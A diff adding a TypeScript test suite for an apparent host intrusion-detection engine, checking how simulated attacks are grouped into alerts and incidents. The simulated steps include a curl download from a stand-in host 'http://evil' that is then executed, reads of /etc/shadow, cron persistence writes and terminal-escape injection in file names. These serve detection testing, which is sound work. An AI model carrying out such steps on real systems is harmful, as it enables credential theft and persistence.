@@ -1,0 +1,271 @@
+import assert from 'node:assert/strict';
+import test from 'node:test';
+import { alertId, incidentId } from '@ringfence/schema';
+import { createTestHost, O, type TestHost, type TestProcess } from '@ringfence/testkit';
+import { createFeed, createTestDetector, detectOne, latest } from './support.ts';
+
+/** systemd → sshd → sshd (session) → bash: what the shell does belongs to its session. */
+function login(host: TestHost, listener: TestProcess): TestProcess {
+  const session = host.spawn(listener, '/usr/sbin/sshd', ['sshd: root [priv]']);
+  return host.spawn(session, '/bin/bash', ['-bash']);
+}
+
+function bootedHost(): { host: TestHost; sshd: TestProcess; cron: TestProcess } {
+  const host = createTestHost();
+  host.user(0, 'root');
+  host.snapshot(host.init, '/usr/lib/systemd/systemd');
+  const sshd = host.spawn(host.init, '/usr/sbin/sshd', ['/usr/sbin/sshd', '-D']);
+  const cron = host.spawn(host.init, '/usr/sbin/cron');
+  return { host, sshd, cron };
+}
+
+test('an alert says what was matched, by whom, and under which ids', () => {
+  const { host, sshd } = bootedHost();
+  host.container({ cgroup: 5n, id: 'c5', name: 'web-1', path: '/docker/c5' });
+  const bash = login(host, sshd);
+  bash.cgroup = 5n;
+  host.open(bash, '/etc/shadow');
+  const { alerts } = detectOne(createTestDetector(), createFeed(host).next());
+  const [alert] = alerts;
+  assert.equal(alerts.length, 1);
+  const eventId = `${host.hostId}/${host.bootId}/1122334455667788/1/0/1`;
+  assert.deepEqual(alert?.events, [eventId]);
+  assert.equal(alert?.id, alertId('Shadow read', [eventId]));
+  assert.deepEqual([alert?.tactics, alert?.techniques], [['credential-access'], ['T1003.008']]);
+  assert.deepEqual([alert?.kind, alert?.priority, alert?.action], ['open', 'warning', 'alert']);
+  assert.deepEqual(
+    alert?.lineage.map(({ executable, user }) => [executable, user]),
+    [
+      ['/bin/bash', 'root'],
+      ['/usr/sbin/sshd', 'root'],
+      ['/usr/sbin/sshd', 'root'],
+      ['/usr/lib/systemd/systemd', 'root'],
+    ],
+  );
+  assert.deepEqual([alert?.container?.name, alert?.cgroupPath], ['web-1', '/docker/c5']);
+  assert.equal(alert?.fields['file.path'], '/etc/shadow');
+});
+
+test('two warnings of distinct tactics in one session are an incident that tells its story', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  const curl = host.spawn(bash, '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://evil']);
+  host.open(curl, '/tmp/x', O.WRONLY | O.CREAT);
+  host.exit(curl);
+  const x = host.spawn(bash, '/tmp/x');
+  host.open(x, '/etc/cron.d/job', O.WRONLY | O.CREAT);
+  const { alerts, incidents } = detectOne(createTestDetector(), createFeed(host).next());
+  assert.deepEqual(
+    alerts.map(({ rule }) => rule),
+    ['Download and execute', 'Cron changed'],
+  );
+  const [incident] = incidents;
+  assert.equal(incidents.length, 1);
+  assert.equal(incident?.id, incidentId(alerts[0]?.id ?? ''));
+  assert.deepEqual([incident?.version, incident?.state, incident?.severity], [1, 'open', 'warning']);
+  assert.deepEqual(
+    incident?.stages.map(({ tactic, techniques }) => [tactic, techniques]),
+    [
+      ['command-and-control', ['T1105']],
+      ['persistence', ['T1053.003']],
+    ],
+  );
+  assert.deepEqual(
+    incident?.alerts.map(({ why }) => why),
+    ['opened this incident', 'same process as in "Download and execute"'],
+  );
+  assert.deepEqual(
+    incident?.story,
+    [
+      '01:00:00 root ran /tmp/x (pid 105), which /usr/bin/curl (pid 104) had written 0.0 s before: Download and execute (command and control, T1105)',
+      '01:00:00 /tmp/x (pid 105) opened /etc/cron.d/job for writing: Cron changed (persistence, T1053.003)',
+    ].map((line) => line.replace('pid 105', `pid ${x.tgid}`).replace('pid 104', `pid ${curl.tgid}`)),
+  );
+  assert.equal(incident?.title, 'Download and execute and persistence by /tmp/x');
+});
+
+test('one critical alert is an incident, one lone notice or warning is not', () => {
+  const { host, sshd } = bootedHost();
+  const feed = createFeed(host);
+  const detector = createTestDetector();
+  host.spawn(login(host, sshd), '/usr/bin/id');
+  assert.equal(detectOne(detector, feed.next()).incidents.length, 0);
+  host.open(login(host, sshd), '/etc/shadow');
+  assert.equal(detectOne(detector, feed.next()).incidents.length, 0);
+  host.credentials(login(host, sshd), 0);
+  assert.equal(detectOne(detector, feed.next()).incidents.length, 1);
+});
+
+test('two sessions of one host stay apart: the listener and its children are hubs', () => {
+  const { host, sshd } = bootedHost();
+  for (const bash of [login(host, sshd), login(host, sshd)]) {
+    host.open(bash, '/etc/shadow');
+    host.open(bash, '/etc/crontab', O.WRONLY);
+  }
+  const { incidents } = detectOne(createTestDetector(), createFeed(host).next());
+  assert.equal(latest(incidents).length, 2);
+});
+
+test('jobs of cron and containers of one runtime stay apart, and one container is one chain through its entry', () => {
+  const { host, cron } = bootedHost();
+  const detector = createTestDetector();
+  const feed = createFeed(host);
+  for (let i = 0; i < 2; i++) {
+    const job = host.spawn(host.fork(cron), '/bin/sh');
+    host.open(job, '/etc/shadow');
+    host.open(job, '/etc/crontab', O.WRONLY);
+  }
+  assert.equal(latest(detectOne(detector, feed.next()).incidents).length, 2);
+  const shim = host.spawn(host.init, '/usr/bin/containerd-shim-runc-v2');
+  host.container({ cgroup: 9n, id: 'c9' });
+  for (let i = 0; i < 2; i++) {
+    const entry = host.fork(shim, { cgroup: 9n });
+    host.exec(entry, '/bin/sh');
+    host.open(host.spawn(entry, '/usr/bin/cat'), '/etc/shadow');
+    host.open(host.spawn(entry, '/usr/bin/tee'), '/etc/crontab', O.WRONLY);
+  }
+  const { incidents } = detectOne(detector, feed.next());
+  const entries = latest(incidents);
+  assert.deepEqual(
+    entries.map(({ alerts }) => alerts.length),
+    [2, 2],
+  );
+  assert.match(
+    entries[0]?.alerts[1]?.why ?? '',
+    /^started by \/bin\/sh \(pid \d+\), which also started \/usr\/bin\/cat \(pid \d+\), where "Shadow read" was raised$/,
+  );
+});
+
+test('a shell started by hand in a container does not join what the host shell does', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  host.open(bash, '/etc/shadow');
+  host.container({ cgroup: 9n, id: 'c9' });
+  const inside = host.fork(bash, { cgroup: 9n });
+  host.exec(inside, '/bin/sh');
+  host.open(inside, '/etc/crontab', O.WRONLY);
+  assert.equal(detectOne(createTestDetector(), createFeed(host).next()).incidents.length, 0);
+});
+
+test('a process named like a hub is none: neither from another directory nor started by a shell', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  const fakes = [host.spawn(bash, '/tmp/systemd'), host.spawn(bash, '/usr/sbin/sshd')];
+  for (const fake of fakes) host.open(host.spawn(fake, '/bin/sh'), '/etc/shadow');
+  host.open(host.spawn(bash, '/bin/sh'), '/etc/crontab', O.WRONLY);
+  const { incidents } = detectOne(createTestDetector(), createFeed(host).next());
+  assert.equal(latest(incidents).length, 1);
+  assert.equal(latest(incidents)[0]?.alerts.length, 4);
+});
+
+test('what a written file does later, started by cron, joins the session that wrote it', () => {
+  const { host, sshd, cron } = bootedHost();
+  const bash = login(host, sshd);
+  host.open(bash, '/etc/cron.d/job', O.WRONLY);
+  host.open(bash, '/tmp/job', O.WRONLY);
+  host.ktime += 60_000_000;
+  host.spawn(host.fork(cron), '/tmp/job');
+  const { incidents } = detectOne(createTestDetector(), createFeed(host).next());
+  assert.equal(incidents.length, 1);
+  assert.equal(
+    incidents[0]?.alerts[1]?.why,
+    `runs a file that /bin/bash (pid ${bash.tgid}) of this chain had written 60 s before`,
+  );
+});
+
+test('an alert that ties two chains merges them: the first opened survives and the other says where it went', () => {
+  const { host, sshd } = bootedHost();
+  const [one, two] = [login(host, sshd), login(host, sshd)];
+  const feed = createFeed(host);
+  const detector = createTestDetector();
+  for (const bash of [one, two]) {
+    host.open(bash, '/etc/shadow');
+    host.open(bash, '/etc/crontab', O.WRONLY);
+  }
+  const before = detectOne(detector, feed.next()).incidents;
+  assert.equal(before.length, 2);
+  host.open(two, '/tmp/tool', O.WRONLY);
+  host.spawn(one, '/tmp/tool');
+  const after = detectOne(detector, feed.next()).incidents;
+  assert.deepEqual(
+    after.map(({ id, state, mergedInto, version }) => [id, state, mergedInto, version]),
+    [
+      [before[1]?.id, 'merged', before[0]?.id, 2],
+      [before[0]?.id, 'open', '', 2],
+    ],
+  );
+  assert.equal(after[1]?.alerts.length, 5);
+});
+
+test('the same rule about the same process folds: counted, not listed again, and sent only so often', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  const feed = createFeed(host);
+  const detector = createTestDetector({ repeatsPerMinute: 5 });
+  host.open(bash, '/etc/crontab', O.WRONLY);
+  for (let i = 0; i < 1000; i++) host.open(bash, '/etc/shadow');
+  const first = detectOne(detector, feed.next());
+  assert.equal(first.alerts.length, 6);
+  assert.deepEqual(
+    [first.incidents.length, first.incidents[0]?.alerts.length, first.incidents[0]?.omittedAlerts],
+    [1, 2, 999],
+  );
+  assert.match(first.incidents[0]?.story[1] ?? '', /; 999 more like it until 01:00:01$/);
+  host.open(bash, '/etc/shadow');
+  assert.equal(detectOne(detector, feed.next()).incidents.length, 0, 'a repetition alone is no news');
+  for (let i = 0; i < 10; i++) host.tick();
+  assert.equal(detectOne(detector, feed.next()).incidents[0]?.omittedAlerts, 1000);
+  assert.equal(detector.stats().suppressed, 996);
+});
+
+test('an idle chain closes on ticks; what comes later opens another', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  const feed = createFeed(host);
+  const detector = createTestDetector({ chainIdleMs: 10_000 });
+  host.credentials(bash, 0);
+  const [opened] = detectOne(detector, feed.next()).incidents;
+  for (let i = 0; i < 12; i++) host.tick();
+  const [closed] = detectOne(detector, feed.next()).incidents;
+  assert.deepEqual([closed?.id, closed?.state, closed?.version], [opened?.id, 'closed', 2]);
+  host.credentials(bash, 0);
+  const [next] = detectOne(detector, feed.next()).incidents;
+  assert.notEqual(next?.id, opened?.id);
+  assert.equal(detector.stats().chains, 1);
+});
+
+test('more chains than there is room for: the one idle for longest is closed and counted', () => {
+  const { host, sshd } = bootedHost();
+  const detector = createTestDetector({ maxChains: 3 });
+  for (let i = 0; i < 5; i++) host.credentials(login(host, sshd), 0);
+  const { incidents } = detectOne(detector, createFeed(host).next());
+  assert.deepEqual([detector.stats().chains, detector.stats().evicted], [3, 2]);
+  assert.equal(latest(incidents).filter(({ state }) => state === 'closed').length, 2);
+});
+
+test('an incident of thousands of alerts with the longest texts stays under 900 kB', () => {
+  const { host, sshd } = bootedHost();
+  const detector = createTestDetector();
+  const bash = login(host, sshd);
+  const long = `/tmp/${'\u{1F4A9}'.repeat(900)}`;
+  for (let i = 0; i < 400; i++) host.spawn(bash, `${long}${i}`, [long, long]);
+  host.credentials(bash, 0);
+  const records = createFeed(host).next();
+  const { outputs } = detector.handle(records);
+  const sizes = outputs.filter(({ topic }) => topic === 'ringfence.incidents').map(({ value }) => value?.length ?? 0);
+  assert.ok(sizes.length > 0 && Math.max(...sizes) < 900_000, String(sizes));
+  assert.ok(outputs.every(({ value }) => (value?.length ?? 0) < 900_000));
+});
+
+test('terminal escapes in names reach neither story nor title nor output', () => {
+  const { host, sshd } = bootedHost();
+  const bash = login(host, sshd);
+  host.spawn(bash, '/tmp/\u001b[2J\nx\u202e', ['\u001b]0;owned\u0007']);
+  host.credentials(bash, 0);
+  const { alerts, incidents } = detectOne(createTestDetector(), createFeed(host).next());
+  const texts = JSON.stringify([alerts, incidents.map(({ container: _, ...rest }) => rest)], (_, value) =>
+    typeof value === 'bigint' ? String(value) : value,
+  );
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
+  assert.doesNotMatch(texts.replaceAll('\\\\', ''), /[\u0000-\u001f\u007f-\u009f\u202e]|\\u001b|\\n/);
+});
